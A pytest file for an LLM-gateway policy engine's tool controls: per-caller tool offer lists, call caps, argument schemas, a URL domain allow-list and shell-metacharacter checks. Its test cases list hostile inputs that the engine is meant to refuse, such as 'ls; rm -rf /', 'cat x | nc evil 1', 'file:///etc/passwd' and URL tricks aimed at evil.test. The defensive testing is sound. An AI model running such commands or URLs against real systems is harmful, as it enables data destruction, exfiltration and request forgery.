"""Tool control in the policy: the tools: section, offer resolution and argument checks."""

from __future__ import annotations

import json

import pytest

from bastion.errors import ConfigError
from bastion.model import Action, Principal
from bastion.model.controls import ToolPlan
from bastion.model.facts import CallFacts, ClassFact
from bastion.policy.diff import diff_policies
from bastion.policy.document import Sensitivity
from bastion.policy.loader import Policy, parse_policy

CLASSES: dict[str, Sensitivity] = {
    "pii.email": "confidential",
    "secret.aws_access_key": "restricted",
}

POLICY = """\
name: tools
rules:
  - id: secrets
    match: {classes: ["secret.*"]}
    action: block
tools:
  on_disallowed_offer: refuse
  on_disallowed_call: remove
  max_calls_per_answer: 3
  offer:
    - id: tools.prod
      match: {environment: prod}
      allow: [search_docs, fetch_url]
    - id: tools.mini
      match: {models: gpt-4o-mini}
      allow: ["search_*"]
    - id: tools.ops
      match: {roles: [operator]}
      allow: ["*"]
    - id: tools.dev
      match: {environment: dev}
      allow: ["*"]
  constraints:
    - id: tools.fetch_url
      tool: fetch_url
      schema:
        type: object
        required: [url]
        properties: {url: {type: string}, depth: {type: integer, maximum: 3}}
      arguments:
        url: {domains: ["docs.example.com", "*.python.org", "bücher.example"]}
    - id: tools.shell
      tool: "run_*"
      arguments:
        command: {no_shell: true, max_length: 40}
        ticket: {pattern: "[A-Z]+-[0-9]+"}
"""


@pytest.fixture(scope="module")
def policy() -> Policy:
    return parse_policy(POLICY, "tools.yaml", CLASSES)


def _facts(model: str = "gpt-4o", **fields: str | tuple[str, ...]) -> CallFacts:
    values: dict[str, object] = {"key_id": "k1", "name": "app-key", **fields}
    return CallFacts(Principal(**values), "chat.completions", model)  # type: ignore[arg-type]


def _plan(policy: Policy, model: str = "gpt-4o", **fields: str | tuple[str, ...]) -> ToolPlan:
    plan = policy.decide(_facts(model, **fields)).tools
    assert plan is not None
    return plan


def _load_error(text: str) -> str:
    with pytest.raises(ConfigError) as caught:
        parse_policy(text, "p.yaml", CLASSES)
    return str(caught.value)


# -- offer resolution ------------------------------------------------------------------


def test_the_first_entry_whose_match_holds_decides(policy: Policy) -> None:
    prod = _plan(policy, environment="prod")
    assert prod.offer("search_docs") is None
    refusal = prod.offer("run_shell")
    assert refusal is not None
    assert (refusal.tool, refusal.rule) == ("run_shell", "tools.prod")
    # prod entry comes first: a prod caller on gpt-4o-mini still gets the prod list
    assert _plan(policy, "gpt-4o-mini", environment="prod").offer("search_web") is not None


def test_an_entry_can_match_on_the_model_or_a_role(policy: Policy) -> None:
    mini = _plan(policy, "gpt-4o-mini", environment="staging")
    assert mini.offer("search_web") is None
    assert mini.offer("fetch_url") is not None
    ops = _plan(policy, environment="staging", roles=("viewer", "operator"))
    assert ops.offer("anything") is None


def test_a_caller_no_entry_matches_may_offer_no_tool(policy: Policy) -> None:
    plan = _plan(policy, environment="staging")
    refusal = plan.offer("search_docs")
    assert refusal is not None
    assert refusal.rule == "tools.offer"


def test_the_plan_carries_the_section_settings(policy: Policy) -> None:
    plan = _plan(policy, environment="prod")
    assert plan.on_disallowed_offer == "refuse"
    assert plan.on_disallowed_call == "remove"
    assert plan.max_calls == 3
    assert plan.cap_rule == "tools.max_calls"


def test_the_plan_follows_the_routed_model() -> None:
    text = """\
name: t
models: {gpt-4o: {}, internal: {}}
rules:
  - id: to.internal
    match: {classes: [pii.email]}
    action: reroute
    reroute: {to: internal}
tools:
  offer:
    - {id: tools.internal, match: {models: internal}, allow: ["*"]}
"""
    policy = parse_policy(text, "p.yaml", CLASSES)
    facts = CallFacts(
        Principal("k", "n"), "chat.completions", "gpt-4o", (ClassFact("pii.email", "user", 1.0),)
    )
    decision = policy.decide(facts)
    assert decision.action is Action.REROUTE
    assert decision.tools is not None
    assert decision.tools.offer("shell") is None
    plain = policy.decide(CallFacts(Principal("k", "n"), "chat.completions", "gpt-4o"))
    assert plain.tools is not None
    assert plain.tools.offer("shell") is not None


def test_without_an_offer_list_every_tool_may_be_offered() -> None:
    text = "name: t\ntools: {max_calls_per_answer: 2}\n"
    plan = parse_policy(text, "p.yaml", CLASSES).decide(_facts()).tools
    assert plan is not None
    assert plan.offer("rm_rf") is None
    assert plan.call("rm_rf", "{}") is None
    assert plan.max_calls == 2


def test_an_empty_offer_list_allows_no_tool() -> None:
    plan = parse_policy("name: t\ntools: {offer: []}\n", "p.yaml", CLASSES).decide(_facts()).tools
    assert plan is not None
    refusal = plan.offer("search_docs")
    assert refusal is not None
    assert refusal.rule == "tools.offer"


def test_without_a_tools_section_the_decision_has_no_tool_plan() -> None:
    assert parse_policy("name: t\n", "p.yaml", CLASSES).decide(_facts()).tools is None


def test_a_refused_call_carries_no_tool_plan(policy: Policy) -> None:
    facts = CallFacts(
        Principal("k", "n", environment="prod"),
        "chat.completions",
        "gpt-4o",
        (ClassFact("secret.aws_access_key", "user", 1.0),),
    )
    decision = policy.decide(facts)
    assert decision.action is Action.BLOCK
    assert decision.tools is None


def test_a_shadow_policy_enforces_no_tool_rules() -> None:
    text = "name: t\nshadow: true\ntools: {offer: []}\n"
    assert parse_policy(text, "p.yaml", CLASSES).decide(_facts()).tools is None


def test_one_principal_gets_the_same_plan_call_after_call(policy: Policy) -> None:
    facts = _facts(environment="prod")
    assert policy.decide(facts).tools is policy.decide(facts).tools


# -- tool calls ------------------------------------------------------------------------


def test_a_call_to_a_tool_the_caller_may_not_use_is_refused_by_the_offer_rule(
    policy: Policy,
) -> None:
    refusal = _plan(policy, environment="prod").call("run_shell", '{"command": "ls"}')
    assert refusal is not None
    assert refusal.rule == "tools.prod"


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        pytest.param("not json", "not valid JSON", id="not-json"),
        pytest.param("", "not valid JSON", id="empty"),
        pytest.param('["https://docs.example.com"]', "not a JSON object", id="array"),
        pytest.param('"https://docs.example.com"', "not a JSON object", id="string"),
        pytest.param('{"url": NaN}', "not valid JSON", id="nan"),
        pytest.param(
            '{"url": "https://evil.test", "url": "https://docs.example.com"}',
            "not valid JSON",
            id="repeated-key",
        ),
        pytest.param("[" * 100_000 + "]" * 100_000, "larger than 64 KiB", id="oversized"),
        pytest.param(
            json.dumps({"url": "https://docs.example.com/" + "a" * 70_000}),
            "larger than 64 KiB",
            id="oversized-object",
        ),
    ],
)
def test_unreadable_arguments_are_refused_by_the_constraint(
    policy: Policy, arguments: str, reason: str
) -> None:
    refusal = _plan(policy, environment="prod").call("fetch_url", arguments)
    assert refusal is not None
    assert refusal.rule == "tools.fetch_url"
    assert reason in refusal.reason


def test_unreadable_arguments_of_an_unconstrained_tool_name_the_offer_rule(
    policy: Policy,
) -> None:
    refusal = _plan(policy, environment="prod").call("search_docs", "{oops")
    assert refusal is not None
    assert refusal.rule == "tools.prod"


def test_deeply_nested_arguments_are_refused_not_crashed(policy: Policy) -> None:
    arguments = '{"url": ' + "[" * 20_000 + "]" * 20_000 + "}"
    refusal = _plan(policy, environment="prod").call("fetch_url", arguments)
    assert refusal is not None
    assert refusal.rule == "tools.fetch_url"


@pytest.mark.parametrize(
    ("arguments", "keyword"),
    [
        pytest.param({}, "required", id="missing-url"),
        pytest.param({"url": 7}, "type", id="url-not-string"),
        pytest.param({"url": "https://docs.example.com", "depth": 9}, "maximum", id="depth"),
    ],
)
def test_arguments_outside_the_schema_are_refused(
    policy: Policy, arguments: dict[str, object], keyword: str
) -> None:
    refusal = _plan(policy, environment="prod").call("fetch_url", json.dumps(arguments))
    assert refusal is not None
    assert refusal.rule == "tools.fetch_url"
    assert keyword in refusal.reason


def test_a_schema_refusal_never_echoes_a_name_from_the_answer() -> None:
    text = """\
name: t
tools:
  constraints:
    - id: c
      tool: f
      schema: {type: object, properties: {a: {type: object, additionalProperties: false}}}
"""
    plan = parse_policy(text, "p.yaml", CLASSES).decide(_facts()).tools
    assert plan is not None
    refusal = plan.call("f", '{"a": {"sk-live-123": 1}}')
    assert refusal is not None
    assert "sk-live" not in refusal.reason
    typed = plan.call("f", '{"a": 1}')
    assert typed is not None
    assert "arguments.a" in typed.reason


@pytest.mark.parametrize(
    "url",
    [
        pytest.param("https://docs.example.com/guide?q=1", id="exact-host"),
        pytest.param("HTTP://DOCS.Example.COM/", id="case"),
        pytest.param("https://docs.example.com./x", id="trailing-dot"),
        pytest.param("https://docs.example.com:8443/x", id="port"),
        pytest.param("https://docs.python.org/3/", id="subdomain-glob"),
        pytest.param("https://a.b.python.org/", id="deeper-subdomain"),
        pytest.param("https://bücher.example/katalog", id="idn-unicode"),
        pytest.param("https://xn--bcher-kva.example/katalog", id="idn-punycode"),
    ],
)
def test_urls_on_the_allow_list_pass(policy: Policy, url: str) -> None:
    assert _plan(policy, environment="prod").call("fetch_url", json.dumps({"url": url})) is None


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        pytest.param("https://evil.test/", "not on the allow-list", id="other-host"),
        pytest.param("https://docs.example.com@evil.test/", "plain http(s)", id="userinfo"),
        pytest.param("https://user:pw@docs.example.com/", "plain http(s)", id="credentials"),
        pytest.param("https://evil.test@docs.example.com/", "plain http(s)", id="userinfo-host"),
        pytest.param("https://docs.example.com\\@evil.test/", "plain http(s)", id="backslash"),
        pytest.param("https://docs.example.com.evil.test/", "not on the allow-list", id="suffix"),
        pytest.param("https://evildocs.example.com/", "not on the allow-list", id="prefix"),
        pytest.param("https://python.org/", "not on the allow-list", id="glob-needs-subdomain"),
        pytest.param("https://docs.ex\u0430mple.com/", "not on the allow-list", id="homoglyph"),
        pytest.param("ftp://docs.example.com/", "plain http(s)", id="scheme"),
        pytest.param("file:///etc/passwd", "plain http(s)", id="file"),
        pytest.param("//docs.example.com/", "plain http(s)", id="no-scheme"),
        pytest.param("https:docs.example.com", "plain http(s)", id="no-authority"),
        pytest.param(" https://docs.example.com/", "plain http(s)", id="leading-space"),
        pytest.param("https://docs.exa\tmple.com/", "plain http(s)", id="tab"),
        pytest.param("https://%64ocs.example.com/", "plain http(s)", id="percent-host"),
        pytest.param("https://docs.example.com:99999/", "plain http(s)", id="bad-port"),
        pytest.param("https://[::1]/", "not on the allow-list", id="ip-literal"),
    ],
)
def test_urls_off_the_allow_list_are_refused(policy: Policy, url: str, reason: str) -> None:
    refusal = _plan(policy, environment="prod").call("fetch_url", json.dumps({"url": url}))
    assert refusal is not None
    assert refusal.rule == "tools.fetch_url"
    assert reason in refusal.reason
    assert "evil" not in refusal.reason and "docs" not in refusal.reason


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        pytest.param({"command": "ls -la /tmp"}, None, id="plain-command"),
        pytest.param({"command": "ls; rm -rf /"}, "shell metacharacters", id="semicolon"),
        pytest.param({"command": "cat x | nc evil 1"}, "shell metacharacters", id="pipe"),
        pytest.param({"command": "echo $(id)"}, "shell metacharacters", id="substitution"),
        pytest.param({"command": "echo `id`"}, "shell metacharacters", id="backtick"),
        pytest.param({"command": "ls > /etc/x"}, "shell metacharacters", id="redirect"),
        pytest.param({"command": "ls\nid"}, "shell metacharacters", id="newline"),
        pytest.param({"command": "sleep 1 &"}, "shell metacharacters", id="background"),
        pytest.param({"command": ["ls", "-la"]}, None, id="argv-list"),
        pytest.param({"command": ["ls", "&&id"]}, "shell metacharacters", id="argv-item"),
        pytest.param({"command": {"sh": "ls"}}, "not a string", id="object"),
        pytest.param({"command": "x" * 41}, "longer than 40", id="too-long"),
        pytest.param({"ticket": "OPS-42"}, None, id="pattern-ok"),
        pytest.param({"ticket": "OPS-42 and more"}, "pattern", id="pattern-is-a-full-match"),
        pytest.param({"ticket": "ops-42"}, "pattern", id="pattern-case"),
        pytest.param({"ticket": 42}, "not a string", id="pattern-needs-text"),
        pytest.param({"other": "; rm -rf /"}, None, id="unchecked-argument"),
    ],
)
def test_argument_checks(policy: Policy, arguments: dict[str, object], reason: str | None) -> None:
    plan = _plan(policy, environment="dev")
    refusal = plan.call("run_shell", json.dumps(arguments))
    if reason is None:
        assert refusal is None
    else:
        assert refusal is not None
        assert refusal.rule == "tools.shell"
        assert reason in refusal.reason


def test_every_constraint_naming_a_tool_applies() -> None:
    text = """\
name: t
tools:
  constraints:
    - {id: c.short, tool: "*", arguments: {q: {max_length: 5}}}
    - {id: c.safe, tool: "search", arguments: {q: {no_shell: true}}}
"""
    plan = parse_policy(text, "p.yaml", CLASSES).decide(_facts()).tools
    assert plan is not None
    too_long = plan.call("search", '{"q": "abcdefgh"}')
    unsafe = plan.call("search", '{"q": "a;b"}')
    assert too_long is not None and too_long.rule == "c.short"
    assert unsafe is not None and unsafe.rule == "c.safe"
    assert plan.call("other", '{"q": "a;b"}') is None


# -- loading ---------------------------------------------------------------------------


def _constraint(schema: str) -> str:
    head = "name: t\ntools:\n  constraints:\n    - id: c.fetch\n      tool: f\n"
    return f"{head}      schema: {schema}\n"


@pytest.mark.parametrize(
    ("schema", "keyword", "hint"),
    [
        pytest.param(
            "{properties: {ticket: {type: string, pattern: '^A'}}}",
            "'pattern'",
            "arguments.ticket.pattern",
            id="pattern",
        ),
        pytest.param(
            "{patternProperties: {'^x': {type: string}}}",
            "'patternProperties'",
            "arguments.<name>.pattern",
            id="patternProperties",
        ),
        pytest.param(
            "{properties: {re: {format: regex}}}",
            "'format'",
            "arguments.re.pattern",
            id="format-regex",
        ),
        pytest.param(
            "{items: [{anyOf: [{pattern: 'a+'}]}]}",
            "'pattern'",
            "RE2",
            id="nested",
        ),
    ],
)
def test_regular_expressions_in_a_schema_are_refused_at_load(
    schema: str, keyword: str, hint: str
) -> None:
    message = _load_error(_constraint(schema))
    assert "constraint 'c.fetch'" in message
    assert keyword in message
    assert hint in message
    assert "p.yaml:6" in message


def test_a_property_named_pattern_is_not_the_keyword() -> None:
    text = _constraint("{properties: {pattern: {type: string}, format: {type: string}}}")
    assert parse_policy(text, "p.yaml", CLASSES).compiled.tools is not None


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param(
            _constraint("{$ref: 'https://schemas.example.com/x.json'}"),
            "may refer only to its own parts",
            id="remote-ref",
        ),
        pytest.param(_constraint("{type: bogus}"), "does not compile", id="bad-schema"),
        pytest.param(
            "name: t\ntools:\n  constraints:\n"
            "    - {id: c, tool: f, arguments: {t: {pattern: '(a'}}}\n",
            "not an RE2 expression",
            id="bad-re2",
        ),
        pytest.param(
            "name: t\ntools:\n  constraints:\n"
            "    - {id: c, tool: f, arguments: {t: {pattern: '(a)\\1'}}}\n",
            "not an RE2 expression",
            id="backreference",
        ),
        pytest.param(
            "name: t\ntools:\n  constraints:\n"
            "    - {id: c, tool: f, arguments: {u: {domains: ['https://x.com/']}}}\n",
            "is not a host name",
            id="domain-is-a-url",
        ),
        pytest.param(
            "name: t\ntools:\n  constraints:\n"
            "    - {id: c, tool: f, arguments: {u: {domains: ['docs.*.com']}}}\n",
            "is not a host name",
            id="domain-glob-in-the-middle",
        ),
        pytest.param(
            "name: t\ntools:\n  constraints:\n    - {id: c, tool: f, arguments: {u: {}}}\n",
            "give at least one of domains, no_shell, pattern, max_length",
            id="empty-check",
        ),
        pytest.param(
            "name: t\ntools:\n  constraints:\n    - {id: c, tool: f}\n",
            "give schema, arguments or both",
            id="empty-constraint",
        ),
        pytest.param(
            "name: t\ntools:\n  offer:\n    - {id: Tools.Prod, allow: x}\n",
            "id: use lower-case letters",
            id="bad-id",
        ),
        pytest.param(
            "name: t\ntools:\n  offer:\n    - {id: tools.offer, allow: x}\n",
            "reserved for a built-in rule",
            id="reserved-id",
        ),
        pytest.param(
            "name: t\ntools:\n  offer:\n    - {id: a, allow: x}\n    - {id: a, allow: y}\n",
            "id 'a' is repeated in tools",
            id="repeated-id",
        ),
        pytest.param(
            "name: t\nrules:\n  - {id: a, action: allow}\n"
            "tools:\n  offer:\n    - {id: a, allow: x}\n",
            "rule id 'a' is also a tool rule id",
            id="rule-id-clash",
        ),
        pytest.param(
            "name: t\ntools:\n  offer:\n    - {id: a, allow: x, match: {classes: [pii.email]}}\n",
            "classes",
            id="no-classes-in-offer-match",
        ),
        pytest.param(
            "name: t\ntools: {on_disallowed_offer: drop}\n",
            "on_disallowed_offer",
            id="unknown-mode",
        ),
        pytest.param(
            "name: t\ntools: {offers: []}\n",
            "tools.offers",
            id="unknown-key",
        ),
        pytest.param(
            "name: t\ntools: {max_calls_per_answer: 0}\n",
            "max_calls_per_answer",
            id="zero-cap",
        ),
    ],
)
def test_an_inconsistent_tools_section_is_refused_at_load(text: str, expected: str) -> None:
    assert expected in _load_error(text)


def test_diff_reports_changes_to_the_tools_section() -> None:
    old = parse_policy(POLICY, "old.yaml", CLASSES).document
    new_text = POLICY.replace("on_disallowed_offer: refuse", "on_disallowed_offer: strip")
    new = parse_policy(new_text, "new.yaml", CLASSES).document
    changes = {change.key: (change.old, change.new) for change in diff_policies(old, new).header}
    assert changes == {"tools.on_disallowed_offer": ("refuse", None)}
